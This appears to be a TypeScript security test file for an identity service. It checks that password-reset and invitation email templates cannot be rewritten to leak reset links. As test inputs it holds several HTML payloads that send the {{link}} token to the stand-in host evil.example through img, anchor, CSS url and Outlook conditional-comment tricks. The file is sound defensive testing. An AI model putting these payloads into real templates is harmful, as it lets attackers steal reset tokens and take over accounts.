import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { createAccount } from '../support/accounts.ts';
import { apiOf } from '../support/api.ts';
import { useGatehouse } from '../support/gatehouse.ts';
import { token } from '../support/http.ts';
import { beforeInOrder } from '../support/in-order.ts';
import { type MailServer, startMailServer } from '../support/mail-server.ts';
import { until } from '../support/until.ts';
import { firstPartyToken } from '../support/user-token.ts';
import { createVisitor } from '../support/visitor.ts';
import { world } from '../support/world.ts';

// What somebody who may write the texts of mails would try, to get the links that others are sent.

const [forgotten, changed, invitation] = [2, 3, 4];
const evil = 'https://evil.example/?';

let mailServer: MailServer;
const flags: Record<string, string> = {
  ...{ 'smtp-host': '127.0.0.1', 'smtp-security': 'opportunistic', 'smtp-from': 'gatehouse@example.com' },
};
beforeInOrder(async () => {
  mailServer = await startMailServer();
  flags['smtp-port'] = String(mailServer.port);
});
after(() => mailServer.stop());

const gatehouse = useGatehouse(async (running) => {
  administrator = await firstPartyToken(running, await createAccount(running, null, { isAdministrator: true }));
  for (const scope of ['PM.MessageTemplate.Write', 'PM.MessageTemplate', 'PM.MessageTemplate PM.AuthSetting']) {
    applications.set(scope, await token(running, scope));
  }
}, flags);
let administrator = '';
const applications = new Map<string, string>();
const put = (id: number, value: string | null, bearer: string | undefined) =>
  apiOf(gatehouse, () => bearer ?? '')('PUT', `/api/MessageTemplate/${id}`, { value });

describe('the texts whose links set passwords', () => {
  it('are out of reach for who may write texts and nothing more', async () => {
    for (const scope of ['PM.MessageTemplate.Write', 'PM.MessageTemplate']) {
      const bearer = applications.get(scope);
      for (const id of [forgotten, invitation]) {
        for (const value of [null, '<p>Hello', `<img src="${evil}{{link}}">`]) {
          const answer = await put(id, value, bearer);
          assert.equal(answer.status, 403, answer.text);
          assert.match(answer.json.errorMessage, /Expect to have 'PM\.AuthSetting'/);
        }
      }
      assert.equal((await put(changed, null, bearer)).status, 200);
    }
    assert.deepEqual(await gatehouse.db.selectFrom('message_templates').selectAll().execute(), []);
  });

  it('lead nowhere else, whoever writes them', async () => {
    for (const bearer of [administrator, applications.get('PM.MessageTemplate PM.AuthSetting')]) {
      for (const value of [
        `<img src="${evil}{{link}}">`,
        `<a href="${evil}{{link}}">Set a new password</a>`,
        '<p>{{link}}</p>',
        `<a href="{{link}}">Go</a><style>a[href*="a"]{background:url(${evil})}</style>`,
        `<!--[if mso]><img src='${evil}<![endif]--><a href="{{link}}">it's</a>`,
      ]) {
        const answer = await put(forgotten, value, bearer);
        assert.equal(answer.status, 400, value);
        assert.match(answer.json.errors.value[0], /\{\{link\}\}/);
        const preview = await apiOf(
          gatehouse,
          () => bearer ?? '',
        )(...(['POST', `/api/MessageTemplate/${forgotten}/preview`, { value }] as const));
        assert.equal(preview.status, 400, value);
      }
      const tracking = await put(changed, `<img src="${evil}{{email}}">`, bearer);
      assert.match(tracking.json.errors.value[0], /^The placeholder \{\{email\}\} can stand in text/);
    }
  });

  it('are told of to the administrators who can read it, in the language of each, with what and who', async () => {
    mailServer.mails.length = 0;
    await gatehouse.db.updateTable('users').set({ email: null }).where('id', '=', 'minerva').execute();
    const people = await Promise.all(
      ['en', 'de', 'ro'].map(() => createAccount(gatehouse, null, { isAdministrator: true })),
    );
    for (const [index, { id, organizationId }] of people.entries()) {
      const email = `admin-${index}@example.com`;
      await gatehouse.db
        .updateTable('users')
        .set({ email, email_key: email.toUpperCase() })
        .where('id', '=', id)
        .execute();
      const level = { organizationId, userId: id };
      await gatehouse.store.settings.write(level, [
        { key: 'UserLanguage.Language', value: ['en', 'de', 'ro'][index] ?? '' },
      ]);
    }
    const inactive = await createAccount(gatehouse, null, { isAdministrator: true });
    await gatehouse.db
      .updateTable('users')
      .set({ email: 'gone@example.com', is_active: 0 })
      .where('id', '=', inactive.id)
      .execute();
    const text = '<p>Go <a href="{{link}}">on</a>';
    assert.equal((await put(forgotten, text, applications.get('PM.MessageTemplate PM.AuthSetting'))).status, 200);
    await until(() => mailServer.mails.length === 3);
    assert.deepEqual(mailServer.mails.map(({ subject }) => subject).sort(), [
      'Der Text von ForgotPassword wurde bei Hogwarts ersetzt',
      'Textul mesajului ForgotPassword a fost înlocuit la Hogwarts',
      'The text of ForgotPassword was replaced at Hogwarts',
    ]);
    for (const { text: words } of mailServer.mails) assert.match(words ?? '', /Owl Post/);
    assert.equal((await put(invitation, null, administrator)).status, 200);
    await until(() => mailServer.mails.length === 6);
    await put(changed, null, administrator);
    const waiting = gatehouse.db.selectFrom('outbox').select('id').where('delivered_at', 'is', null);
    assert.deepEqual(await waiting.execute(), [], 'of other texts nobody is told');
  });

  it('are not changed more often than the administrators can be told of', async () => {
    const other = await token(gatehouse, 'PM.MessageTemplate PM.AuthSetting', world.otherApplication);
    const statuses = [];
    for (let change = 0; change < 12; change += 1) statuses.push((await put(forgotten, null, other)).status);
    assert.deepEqual(statuses, [...Array(10).fill(200), 429, 429]);
    const answer = await put(invitation, null, other);
    const pause = Number(answer.headers.get('retry-after'));
    assert.ok(answer.status === 429 && pause > 0 && pause <= 3600);
    assert.equal((await put(changed, null, other)).status, 200);
  });
});

describe('a text from before there were rules', () => {
  it('is not sent: the built-in one is, and the log says so', async () => {
    mailServer.mails.length = 0;
    const value = `<p>Hello</p><img src="${evil}{{link}}">`;
    await gatehouse.store.messageTemplates.put(world.organization.id, forgotten, value, Date.now());
    await gatehouse.db
      .updateTable('users')
      .set({ email: 'harry@example.com', email_key: 'HARRY@EXAMPLE.COM' })
      .where('id', '=', world.harry.id)
      .execute();
    const visitor = createVisitor(() => gatehouse.url);
    await visitor.submit('/Hogwarts/identity/web/forgot-password', { userName: 'harry@example.com' });
    await until(() => mailServer.mails.length === 1);
    const [mail] = mailServer.mails;
    assert.equal(mail?.subject, 'Set a new password');
    assert.match(String(mail?.html), /<a href="http:\/\/127\.0\.0\.1:\d+\/identity\/web\/reset\?token&#61;/);
    assert.doesNotMatch(String(mail?.html), /evil/);
    const [line] = gatehouse.logLines.filter(({ message }) => /built-in text is sent/.test(String(message)));
    assert.deepEqual([line?.template, line?.organizationId], ['ForgotPassword', world.organization.id]);
    assert.doesNotMatch(JSON.stringify(gatehouse.logLines), /token=/);
    const preview = await apiOf(gatehouse, () => administrator)('POST', `/api/MessageTemplate/${forgotten}/preview`);
    assert.equal(preview.json.subject, 'Set a new password');
    const shown = await apiOf(gatehouse, () => administrator)('GET', `/api/MessageTemplate/${forgotten}`);
    assert.equal(shown.json.value, value, 'so that its author can put it right');
  });
});
